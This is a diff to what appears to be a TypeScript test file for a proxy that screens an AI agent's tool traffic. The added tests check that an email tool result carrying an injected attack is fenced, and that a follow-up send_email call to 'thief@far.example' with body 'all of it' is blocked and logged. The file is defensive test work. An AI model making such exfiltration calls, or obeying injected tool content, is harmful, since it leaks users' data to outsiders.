@@ -53,6 +53,25 @@ async function answered(method: string, value: unknown, given = setUp()): Promis
   return given.toClient.at(-1).result;
 }
 
+describe('the log', () => {
+  it('names what was held back, and holds nothing of what it said', async () => {
+    const given = setUp();
+    await answered('tools/call', { content: [{ type: 'text', text: ATTACK }] }, given);
+    await given.proxy.fromClient(call(3, 'send_email', { to: 'thief@far.example', body: 'all of it' }));
+    await settle();
+    expect(given.notes).toEqual([
+      'read_email: what it gave looks suspicious; it was fenced or withheld',
+      'send_email: a call was not let through',
+    ]);
+  });
+
+  it('is silent about what goes through', async () => {
+    const given = setUp();
+    await answered('tools/call', { content: [{ type: 'text', text: 'See you on Friday.' }] }, given);
+    expect(given.notes).toEqual([]);
+  });
+});
+
 describe('messages', () => {
   it('passes what is none of its business, the same object', async () => {
     const { proxy, toClient, toServer } = setUp();
